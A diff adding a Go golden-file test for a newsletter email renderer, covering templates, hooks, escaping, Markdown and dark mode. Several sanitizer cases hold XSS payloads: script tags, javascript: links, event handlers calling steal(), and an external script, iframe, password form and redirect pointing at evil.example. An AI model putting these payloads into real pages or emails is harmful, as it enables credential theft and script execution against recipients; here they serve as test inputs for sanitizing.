@@ -0,0 +1,260 @@
+package emailrender_test
+
+import (
+	"bytes"
+	"flag"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"go-newsletter/internal/emailrender"
+	"go-newsletter/internal/markdown"
+	"go-newsletter/internal/sanitize"
+)
+
+var update = flag.Bool("update", false, "rewrite the golden files with the current rendering output")
+
+// goldenDir holds <case>.golden.html for every case: a subject line, a blank line and the HTML body
+const goldenDir = "../../tests/email-golden"
+
+// goldenCase is a post email rendered for one recipient. Content comes from email.ContentHTML,
+// or from postHTML or postMarkdown, which take the way of post content_html and
+// content_markdown through sanitizing and Markdown rendering.
+type goldenCase struct {
+	name  string
+	email emailrender.PostEmail
+	// template is the source of a custom post template
+	template string
+	// footerHTML is added by an emailrender.AppendHTML hook
+	footerHTML   string
+	postHTML     string
+	postMarkdown string
+}
+
+const (
+	newsletterName = "Weekly Go"
+	unsubscribeURL = "https://example.com/api/v1/unsubscribe/3b1f8c2e-token"
+	genericsHTML   = "<h1>Generics in practice</h1><p>This week we look at type parameters.</p>"
+)
+
+var goldenCases = []goldenCase{
+	{
+		name: "basic",
+		email: emailrender.PostEmail{
+			NewsletterName: newsletterName,
+			Title:          "Generics in practice",
+			ContentHTML:    genericsHTML,
+			UnsubscribeURL: unsubscribeURL,
+		},
+	},
+	{
+		name: "custom-template",
+		email: emailrender.PostEmail{
+			NewsletterName: newsletterName,
+			Title:          "Generics in practice",
+			ContentHTML:    genericsHTML,
+			UnsubscribeURL: unsubscribeURL,
+		},
+		template: `<table width="100%"><tr><td style="background-color: #003366; color: #ffffff">{{.NewsletterName}} &middot; {{.Title}}</td></tr>
+<tr><td>{{.Content}}</td></tr>
+<tr><td><a href="{{.UnsubscribeURL}}">Unsubscribe</a>{{if .UnsubscribeAllURL}} | <a href="{{.UnsubscribeAllURL}}">Unsubscribe from all</a>{{end}}</td></tr></table>
+`,
+	},
+	{
+		name: "empty-content",
+		email: emailrender.PostEmail{
+			NewsletterName: newsletterName,
+			Title:          "Empty body",
+			UnsubscribeURL: "https://example.com/api/v1/unsubscribe/empty-token",
+		},
+	},
+	{
+		name: "footer-hook",
+		email: emailrender.PostEmail{
+			NewsletterName: newsletterName,
+			Title:          "Release notes",
+			ContentHTML:    "<p>Go 1.23 is out.</p>",
+			UnsubscribeURL: "https://example.com/api/v1/unsubscribe/7d2e4a91-token",
+		},
+		footerHTML: "<p style=\"color: #999999; font-size: 12px\">Example Corp, 1 Main Street, Springfield</p>\n",
+	},
+	{
+		name: "merge-characters",
+		email: emailrender.PostEmail{
+			NewsletterName: "Novinky & tipy",
+			Title:          `Č. 12 – "Jaro"`,
+			ContentHTML:    "<p>Diakritika: ěščřžýáíé, entity: &amp; &lt;b&gt;, percent: 100%</p>",
+			UnsubscribeURL: "https://example.com/api/v1/unsubscribe/a%2Fb?x=1&y=2",
+		},
+	},
+	{
+		name: "no-newsletter-name",
+		email: emailrender.PostEmail{
+			Title:          "Standalone announcement",
+			ContentHTML:    "<p>Subject falls back to the post title.</p>",
+			UnsubscribeURL: "https://example.com/api/v1/unsubscribe/9c0d-token",
+		},
+	},
+	{
+		name: "unsubscribe-all",
+		email: emailrender.PostEmail{
+			NewsletterName:    newsletterName,
+			Title:             "Generics in practice",
+			ContentHTML:       genericsHTML,
+			UnsubscribeURL:    unsubscribeURL,
+			UnsubscribeAllURL: "https://example.com/api/v1/unsubscribe-all/cmVhZGVyQGV4YW1wbGUuY29t.c2lnbmF0dXJl",
+		},
+	},
+	{
+		name: "unsafe-html",
+		email: emailrender.PostEmail{
+			NewsletterName: newsletterName,
+			Title:          "Unsafe content",
+			UnsubscribeURL: unsubscribeURL,
+		},
+		postHTML: `<p onclick="steal()">Hello<script>alert(1)</script> <a href="javascript:alert(1)">click</a> <a href="https://example.com/read" target="_blank">read</a></p>
+<iframe src="https://evil.example/frame"></iframe>
+<form action="https://evil.example/login"><input name="password"></form>
+<img src="https://example.com/chart.png" alt="Chart" onerror="steal()">
+<style>p { display: none }</style>`,
+	},
+	{
+		name: "markdown",
+		email: emailrender.PostEmail{
+			NewsletterName: newsletterName,
+			Title:          "Release notes",
+			UnsubscribeURL: unsubscribeURL,
+		},
+		postMarkdown: "# Go 1.23\n\nGo **1.23** is out, read [the notes](https://go.dev/doc/go1.23).\n\n" +
+			"- range over functions\n- the `iter` package\n\n| Feature | Status |\n|---|---|\n| iterators | ~~preview~~ stable |\n\n" +
+			"<script>alert(1)</script>\n\n[bad link](javascript:alert(1))\n",
+	},
+	{
+		name: "inline-css",
+		email: emailrender.PostEmail{
+			NewsletterName: newsletterName,
+			Title:          "Styled content",
+			UnsubscribeURL: unsubscribeURL,
+		},
+		postHTML: `<p style="color: #333333; font-size: 16px; background-image: url(https://tracker.example/p.gif); position: absolute">Styled paragraph</p>
+<table bgcolor="#f5f5f5" cellpadding="8" style="border-collapse: collapse; width: 100%"><tr><td style="padding: 8px; border: 1px solid #dddddd">Cell</td></tr></table>
+<div style="margin: 0 auto; max-width: 600px; behavior: url(https://evil.example/x.htc)">Centered</div>`,
+	},
+	{
+		name: "dark-mode-template",
+		email: emailrender.PostEmail{
+			NewsletterName: newsletterName,
+			Title:          "Generics in practice",
+			ContentHTML:    genericsHTML,
+			UnsubscribeURL: unsubscribeURL,
+		},
+		template: `<!DOCTYPE html>
+<html lang="en">
+<head>
+<meta charset="utf-8">
+<meta name="color-scheme" content="light dark">
+<meta name="supported-color-schemes" content="light dark">
+<title>{{.Title}}</title>
+<style>@media (prefers-color-scheme: dark) { body, td { background-color: #111111 !important; color: #eeeeee !important } }</style>
+</head>
+<body bgcolor="#ffffff" style="color-scheme: light dark; margin: 0">
+<table width="100%" bgcolor="#ffffff"><tr><td style="background-color: #ffffff; color: #111111; padding: 16px">{{.Content}}</td></tr>
+<tr><td><a href="{{.UnsubscribeURL}}">Unsubscribe</a></td></tr></table>
+</body>
+</html>
+`,
+	},
+	{
+		name: "unsafe-template",
+		email: emailrender.PostEmail{
+			NewsletterName: newsletterName,
+			Title:          "Generics in practice",
+			ContentHTML:    genericsHTML,
+			UnsubscribeURL: unsubscribeURL,
+		},
+		template: `<div onmouseover="steal()"><script src="https://evil.example/x.js"></script>{{.Content}}
+<a href="javascript:steal()">Read online</a> <img src="https://example.com/logo.png" onload="steal()" alt="Logo">
+<meta http-equiv="refresh" content="0;url=https://evil.example">
+<a href="{{.UnsubscribeURL}}">Unsubscribe</a></div>
+`,
+	},
+}
+
+func TestRenderPostGolden(t *testing.T) {
+	for _, tc := range goldenCases {
+		t.Run(tc.name, func(t *testing.T) {
+			got := renderGoldenCase(t, tc)
+			path := filepath.Join(goldenDir, tc.name+".golden.html")
+
+			if *update {
+				if err := os.WriteFile(path, got, 0o644); err != nil {
+					t.Fatalf("writing golden file: %v", err)
+				}
+				return
+			}
+
+			want, err := os.ReadFile(path)
+			if err != nil {
+				t.Fatalf("reading golden file: %v (run with -update to create it)", err)
+			}
+			if !bytes.Equal(got, want) {
+				t.Errorf("output differs from %s\n%s", path, firstDifference(want, got))
+			}
+		})
+	}
+}
+
+// renderGoldenCase renders a case into the golden file format
+func renderGoldenCase(t *testing.T, tc goldenCase) []byte {
+	t.Helper()
+	email := tc.email
+	switch {
+	case tc.postHTML != "":
+		email.ContentHTML = sanitize.EmailHTML(tc.postHTML)
+	case tc.postMarkdown != "":
+		content, err := markdown.Render(tc.postMarkdown)
+		if err != nil {
+			t.Fatalf("rendering Markdown: %v", err)
+		}
+		email.ContentHTML = content.HTML
+	}
+	if tc.template != "" {
+		template, err := emailrender.ParseTemplate(emailrender.KindPost, tc.template)
+		if err != nil {
+			t.Fatalf("parsing template: %v", err)
+		}
+		email.Template = template
+	}
+
+	rendered, err := emailrender.RenderPost(email)
+	if err != nil {
+		t.Fatalf("RenderPost: %v", err)
+	}
+	if tc.footerHTML != "" {
+		// Hooks are registered for the whole process, so the case runs its hook itself
+		hookEmail := emailrender.Email{Kind: emailrender.KindPost, NewsletterName: email.NewsletterName, Title: email.Title, ContentHTML: email.ContentHTML}
+		emailrender.AppendHTML(tc.footerHTML).AfterRender(hookEmail, &rendered)
+	}
+	return []byte(fmt.Sprintf("Subject: %s\n\n%s", rendered.Subject, rendered.HTML))
+}
+
+// firstDifference describes the first differing line to keep failures readable
+func firstDifference(want, got []byte) string {
+	wantLines := strings.Split(string(want), "\n")
+	gotLines := strings.Split(string(got), "\n")
+	for i := 0; i < max(len(wantLines), len(gotLines)); i++ {
+		var w, g string
+		if i < len(wantLines) {
+			w = wantLines[i]
+		}
+		if i < len(gotLines) {
+			g = gotLines[i]
+		}
+		if w != g {
+			return fmt.Sprintf("  line %d\n  want: %q\n  got:  %q\n", i+1, w, g)
+		}
+	}
+	return ""
+}